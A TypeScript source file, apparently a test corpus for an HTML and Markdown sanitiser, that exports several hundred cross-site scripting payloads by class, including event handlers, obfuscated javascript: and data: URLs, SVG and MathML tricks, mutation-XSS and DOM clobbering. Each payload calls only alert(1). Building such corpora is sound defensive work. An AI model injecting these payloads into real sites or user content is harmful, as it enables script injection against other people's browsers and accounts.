/** HTML that runs a script, or tries to, by class. Every one calls `alert(1)`. */
export const payloads: string[] = [
  ...eventHandlers(),
  ...addresses(),
  ...embeddedDocuments(),
  ...foreignNamespaces(),
  ...mutations(),
  ...forms(),
  ...clobbering(),
  ...brokenMarkup(),
]

/** What a person could type or paste into an editor that takes Markdown. */
export const markdownPayloads: string[] = [
  ...maliciousAddresses().flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `[x](${address} "onclick=alert(1)")`,
    `![x](${address})`,
    `<${address}>`,
    `[x][y]\n\n[y]: ${address}`,
  ]),
  '![x](x"onerror="alert(1))',
  '[x](https://e.com/"onmouseover="alert(1))',
  "[x](https://e.com/'onmouseover='alert(1))",
  '[<img src=x onerror=alert(1)>](https://e.com)',
  '**<img src=x onerror=alert(1)>**',
  '<div align="center" onmouseover="alert(1)">\n\nx\n\n</div>',
  '<div align="center"><script>alert(1)</script></div>',
  '<p align="right"><img src=x onerror=alert(1)></p>',
  '- <u onmouseover=alert(1)>x</u>',
  '1. <b/onmouseover=alert(1)>x',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\<img src=x onerror=alert(1)>',
]

function eventHandlers(): string[] {
  const tags = ['img src=x', 'video src=x', 'audio src=x', 'body', 'svg', 'input autofocus', 'details open', 'marquee']
  const moreTags = ['p', 'a href=https://e.com', 'b', 'u', 'li', 'ul', 'br', 'em tabindex=0 autofocus', 'strong']
  const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onstart', 'onpointerenter']
  const crossed = [...tags, ...moreTags].flatMap((tag) => events.map((event) => `<${tag} ${event}=alert(1)>x`))
  const spelled = [
    '<img src=x oNeRrOr=alert(1)>',
    '<img src=x onerror\n=\nalert(1)>',
    '<img src=x onerror\t=alert(1)>',
    '<img src=x onerror\f=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x:alert(1) onerror=eval(src)>',
    '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
    '<img src=x onerror=&#x61;lert&lpar;1&rpar;>',
    '<img src=x onerror="alert&#40;1&#41;">',
    '<img src=x onerror=`alert(1)`>',
    '<img src=x onerror=\\u0061lert(1)>',
    '<img src=x onerror=top["al"+"ert"](1)>',
    '<img src=x onerror=window.onerror=alert;throw(1)>',
    '<img src=x onerror=alert(1)//',
    '<img src=x onerror=alert(1) <b>',
    '<img """><img src=x onerror=alert(1)>">',
    '<img src=x` `onerror=alert(1)>',
    '<img src="x" / / onerror="alert(1)">',
    '<p style="animation:x" onanimationstart=alert(1)><style>@keyframes x{}</style>x',
    '<p style="transition:color 1s" ontransitionend=alert(1)>x',
    '<img srcset=x onerror=alert(1)>',
    '<picture><source srcset=x><img onerror=alert(1)></picture>',
    '<img src=x srcset="x 1x, y 2x" onerror=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<video poster=x onloadstart=alert(1) src=x>',
    '<object data=x onerror=alert(1)></object>',
    '<link rel=stylesheet href=x onerror=alert(1)>',
    '<style onload=alert(1)></style>',
    '<iframe onload=alert(1)></iframe>',
    '<xss onpointerrawupdate=alert(1)>x</xss>',
    '<custom-element autofocus tabindex=1 onfocus=alert(1)>x</custom-element>',
    '<p contenteditable oninput=alert(1) onbeforecopy=alert(1)>x',
  ]
  return [...crossed, ...spelled]
}

function maliciousAddresses(): string[] {
  return [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    '\ufeffjavascript:alert(1)',
    'java\tscript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3a;alert(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)',
    '&#0000106avascript:alert(1)',
    'javascript://%0aalert(1)',
    'javascript://https://e.com/%0aalert(1)',
    'javascript:alert(1)//https://e.com',
    'javascript:void(0);alert(1)',
    'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    'jar:javascript:alert(1)!/',
    'vbscript:alert(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    'blob:https://e.com/x',
    'file:///etc/passwd#<script>alert(1)</script>',
    'ＪＡＶＡＳＣＲＩＰＴ:alert(1)',
    'javascript\u200b:alert(1)',
    'javaſcript:alert(1)',
  ]
}

function addresses(): string[] {
  return maliciousAddresses().flatMap((address) => [
    `<a href="${address.replaceAll('"', '&quot;')}">x</a>`,
    `<a href='${address.replaceAll("'", '&#39;')}' target=_self>x</a>`,
    `<iframe src="${address.replaceAll('"', '&quot;')}"></iframe>`,
    `<form action="${address.replaceAll('"', '&quot;')}"><button>x</button></form>`,
  ])
}

function embeddedDocuments(): string[] {
  return [
    '<script>alert(1)</script>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script/x>alert(1)</script>',
    '<script\n>alert(1)</script\n>',
    '<script src="data:text/javascript,alert(1)"></script>',
    '<script type=module>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<object><param name=src value="javascript:alert(1)"></object>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="javascript:/a/-alert(1)///////"><a href=../b/>x</a>',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<portal src="javascript:alert(1)"></portal>',
    '<fencedframe src="javascript:alert(1)"></fencedframe>',
    '<template><img src=x onerror=alert(1)></template>',
    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="behavior:url(x);-moz-binding:url(x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<style>@import "javascript:alert(1)"; p{background:url("javascript:alert(1)")}</style><p>x</p>',
    '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  ]
}

function foreignNamespaces(): string[] {
  return [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script>alert&#40;1&#41;</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)" /></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text x=20 y=20>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><set attributeName=onmouseover to=alert(1)></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)></svg>#x"></svg>',
    '<svg><image href=x onerror=alert(1)></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>',
    '<svg><![CDATA[><image href="]]><img src=x onerror=alert(1)>//"></svg>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<math><style><img src=x onerror=alert(1)></style></math>',
  ]
}

/** Harmless as parsed, harmful when what was parsed is written out and parsed again. */
function mutations(): string[] {
  const image = '<img src=x onerror=alert(1)>'
  const rawText = ['style', 'title', 'textarea', 'xmp', 'noembed', 'noframes', 'noscript', 'iframe', 'plaintext']
  const closers = rawText.flatMap((tag) => [
    `<${tag}><a title="</${tag}>${image}"></${tag}>`,
    `<svg><${tag}><a title="</${tag}>${image}"></${tag}></svg>`,
    `<math><${tag}><a title="</${tag}>${image}"></${tag}></math>`,
    `<p><${tag}><!--</${tag}>${image}--></${tag}></p>`,
  ])
  return [
    ...closers,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
    `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=alert(1)">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<svg></p><style><g title="</style>${image}">`,
    `<svg><p><style><g title="</style>${image}"></svg>`,
    `<math></p><style><!--</style>${image}--></math>`,
    `<svg><desc><svg><image><a><desc><svg><image></image></svg></desc></a></image></svg><style><a id="</style>${image}"></a></style></desc></svg>`,
    `<table><tr><td><form><table><form><p>${image}`,
    `<select><template><style><!--</style><a rel="--></style></template></select>${image}">`,
    `<select><noscript><p title="</noscript></select>${image}">`,
    `<option><style></option></select><b><${image}</style></option>`,
    `<a><a><p title="</a>${image}">`,
    `<b><p title="</b>${image}">x`,
    `<p id="</p>${image}">x</p>`,
    `<u title="--!>${image}">x</u>`,
    `<!--><img src=x onerror=alert(1)>-->`,
    `<!---><img src=x onerror=alert(1)>-->`,
    `<!-- --!><img src=x onerror=alert(1)> -->`,
    `<!--<img src="--><img src=x onerror=alert(1)//">`,
    `<![><img src="]><img src=x onerror=alert(1)//">`,
    `<?xml version="1.0"?><img src=x onerror=alert(1)>`,
    `<?x <img src=x onerror=alert(1)> ?>`,
    `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=alert(1)>">]>&x;`,
    `<p>&lt;img src=x onerror=alert(1)&gt;</p>`,
    `<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>`,
    ...Array.from({ length: 3 }, (_, at) => `${'<div>'.repeat(200 * (at + 1))}${image}`),
    `${'<svg><foreignObject>'.repeat(100)}${image}`,
    `${'<math><mi>'.repeat(130)}<style><!--</style>${image}-->`,
  ]
}

function forms(): string[] {
  return [
    '<form action="javascript:alert(1)"><input type=submit value=x></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>',
    '<form><input type=image src=x formaction="javascript:alert(1)" onerror=alert(1)></form>',
    '<input type=image src=x onerror=alert(1)>',
    '<isindex type=image src=x onerror=alert(1) action="javascript:alert(1)">',
    '<button onclick=alert(1)>x</button>',
    '<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>x</p>',
    '<select autofocus onfocus=alert(1)><option>x</select>',
    '<textarea autofocus onfocus=alert(1)></textarea>',
    '<keygen autofocus onfocus=alert(1)>',
    '<label for=i onclick=alert(1)>x</label><input id=i>',
    '<a href="https://e.com" ping="javascript:alert(1)" onclick=alert(1)>x</a>',
    '<map name=m><area href="javascript:alert(1)" shape=default>x</map><img usemap=#m src=x>',
  ]
}

/** Names that stand in for what a sanitiser looks up on a node. */
function clobbering(): string[] {
  const names = ['attributes', 'childNodes', 'parentNode', 'nodeName', 'removeChild', 'firstChild', 'textContent']
  return [
    ...names.flatMap((name) => [
      `<form onclick=alert(1)><input name=${name}>x</form>`,
      `<form id=${name} onmouseover=alert(1)><input name=${name}><img name=${name} src=x onerror=alert(1)></form>`,
    ]),
    '<form onclick=alert(1)><input name=attributes><input name=attributes>x</form>',
    '<a id=body><a id=body name=createElement href="javascript:alert(1)">x</a>',
    '<img name=getElementById src=x onerror=alert(1)>',
    '<p id=__proto__ onclick=alert(1)>x</p>',
    '<img name=implementation src=x onerror=alert(1)>',
    '<embed name=currentScript src="data:text/html,<script>alert(1)</script>">',
  ]
}

function brokenMarkup(): string[] {
  return [
    '<<img src=x onerror=alert(1)>',
    '<\u0000img src=x onerror=alert(1)>',
    '<img\u0000src=x onerror=alert(1)>',
    '<img src=x one\u0000rror=alert(1)>',
    '＜img src=x onerror=alert(1)＞',
    '\u2028<img src=x onerror=alert(1)>\u2029',
    '<p>\u202e<img src=x onerror=alert(1)></p>',
    '<İmg src=x onerror=alert(1)>',
    '<ıframe src="javascript:alert(1)">',
    '<ſcript>alert(1)</ſcript>',
    '<p <img src=x onerror=alert(1)>>',
    '<p/onclick=alert(1)/>x',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '--><img src=x onerror=alert(1)>',
    ']]><img src=x onerror=alert(1)>',
    '</p></div></body></html><img src=x onerror=alert(1)>',
    '</title></style></textarea></script></xmp><img src=x onerror=alert(1)>',
    '<br/<br/<img src=x onerror=alert(1)>',
    '<table background="javascript:alert(1)"><td><img src=x onerror=alert(1)></table>',
    '<ul><li><img src=x onerror=alert(1)></ul>',
    '<ol start="1" onclick=alert(1)><li value="1" onmouseover=alert(1)>x</ol>',
    '<a href="https://e.com/" onclick="alert(1)" style="position:fixed;inset:0" class=x id=y>x</a>',
    '<p align="center" onclick=alert(1)>x</p>',
    '<p style="text-align:center;animation:x" onclick=alert(1)>x</p>',
    '<p style="text-align:center\\"onclick=alert(1) x=\\"">x</p>',
  ]
}
